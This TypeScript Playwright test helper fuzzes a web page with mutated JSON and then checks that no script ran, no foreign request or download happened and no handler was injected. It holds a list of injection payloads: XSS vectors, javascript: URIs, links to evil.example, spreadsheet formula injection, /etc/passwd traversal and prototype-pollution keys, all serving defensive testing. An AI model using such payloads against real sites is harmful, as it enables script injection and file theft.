import { expect, type Page } from '@playwright/test';
import type { Chance } from './chance';

/** Tells a script that ran from one that did not: no content of a page may set it. */
const MARK = '__ran';
const RUN = `window.${MARK}=1`;
const FOREIGN = 'http://evil.example/x';

/** Texts that something may take for a script, an address, a formula, a path or a name of its own. */
export const HOSTILE_TEXTS = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"><title>x</title></svg>`,
  `"><img src="${FOREIGN}" onload='${RUN}'>`,
  `</title></script><script src="${FOREIGN}"></script>`,
  `<iframe srcdoc="<script>parent.${MARK}=1</script>"></iframe>`,
  `<mml:math><mml:annotation-xml encoding="text/html"><img src=x onerror=${RUN}></mml:annotation-xml></mml:math>`,
  `<i>deep</i> <sub onmouseover=${RUN}>2</sub>`,
  `javascript:${RUN}`,
  ` \u0001JaVaScRiPt:${RUN}//`,
  `data:text/html,<script>${RUN}</script>`,
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  '//evil.example/x',
  FOREIGN,
  `https://doi.org@evil.example/`,
  '\\\\evil.example\\share',
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  '=HYPERLINK("http://evil.example","x")',
  '@SUM(1+1)*cmd|calc',
  '../../../../etc/passwd',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'undefined',
  '\u202egnp.exe\u202c',
  '\u200b\ufeff\u0000\u0007',
  '\ud800 half of a pair',
  '\u0301'.repeat(300),
  'W'.repeat(5_000),
  'word '.repeat(2_000),
  '\r\n\r\n',
  '',
  '-0',
  '1e400',
  '9007199254740993',
  '0000-00-00',
  '+275760-09-14',
] as const;

const HOSTILE_VALUES: readonly unknown[] = [
  null,
  -1,
  1e308,
  0.1,
  true,
  [],
  {},
  [[[[]]]],
  { length: 1e9 },
  Number.MAX_SAFE_INTEGER,
];

/** Members without which there is nothing to be shown. */
const LEFT = new Set(['id', 'meta', 'results', 'format', 'version']);

/**
 * The same value with some of its texts and other values changed into hostile ones.
 *
 * @param share of the values that change
 */
export function hostile(chance: Chance, value: unknown, share = 0.4): unknown {
  if (Array.isArray(value)) {
    const all = value.slice(0, 30).map((each) => hostile(chance, each, share));
    return chance.isSo(share / 20) ? chance.pick(HOSTILE_VALUES) : all;
  }
  if (typeof value === 'object' && value !== null) {
    const members = Object.entries(value).map(([name, each]) => [
      name,
      LEFT.has(name) && typeof each !== 'object' ? each : hostile(chance, each, share),
    ]);
    const changed = Object.fromEntries(members);
    // As a parser of JSON makes it: a member of its own, and no prototype.
    if (chance.isSo(0.1))
      Object.defineProperty(changed, '__proto__', { value: { [MARK]: 1 }, enumerable: true });
    return changed;
  }
  if (!chance.isSo(share)) return value;
  return typeof value === 'string' || chance.isSo(0.3)
    ? chance.pick(HOSTILE_TEXTS)
    : chance.pick(HOSTILE_VALUES);
}

/** What a page must not do, whatever it shows. */
export interface Watch {
  /** Expects that nothing of it happened yet. */
  readonly expectHarmless: () => Promise<void>;
  /** The longest time for which the page answered nobody. Milliseconds. */
  readonly longestTask: () => Promise<number>;
}

/** Watches a page from now on. @param origins whom it may ask. */
export async function watchForHarm(page: Page, origins: readonly string[]): Promise<Watch> {
  const harm: string[] = [];
  page.on('dialog', async (dialog) => {
    harm.push(`a dialog: ${dialog.message()}`);
    await dialog.dismiss();
  });
  page.on('request', (request) => {
    const { origin, protocol } = new URL(request.url());
    if (/^(?:https?|wss?):$/.test(protocol) && !origins.includes(origin))
      harm.push(`asks ${request.url().slice(0, 200)}`);
  });
  page.on('download', (download) => harm.push(`saves ${download.suggestedFilename()}`));
  await page.addInitScript(() => {
    const longest = { ms: 0 };
    Object.defineProperty(window, 'longestTask', { value: longest });
    new PerformanceObserver((list) => {
      for (const { duration } of list.getEntries()) longest.ms = Math.max(longest.ms, duration);
    }).observe({ type: 'longtask', buffered: true });
  });
  return {
    expectHarmless: async () => {
      const found = await page.evaluate((mark) => {
        const isScript = (text: string) =>
          /^(?:javascript:|vbscript:|data:text|file:)/i.test(text.replaceAll(/[^!-~]/g, ''));
        const attributes = ['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'srcdoc'];
        const links = [...document.querySelectorAll('*')].flatMap((element) =>
          attributes.flatMap((name) => {
            const value = element.getAttribute(name) ?? '';
            return isScript(value) ? [`${element.tagName} ${name}=${value.slice(0, 100)}`] : [];
          }),
        );
        const handlers = [...document.querySelectorAll('*')].filter((element) =>
          [...element.attributes].some(({ name }) => name.startsWith('on')),
        );
        const hasRun = Reflect.get(window, mark) !== undefined || Reflect.get({}, mark) !== undefined;
        return [
          ...links,
          ...handlers.map((element) => `a handler on ${element.tagName}`),
          ...(hasRun ? ['a script ran'] : []),
        ];
      }, MARK);
      expect([...harm, ...found]).toEqual([]);
    },
    longestTask: () =>
      page.evaluate(() =>
        Math.round(Number(Reflect.get(Reflect.get(window, 'longestTask') ?? {}, 'ms') ?? 0)),
      ),
  };
}
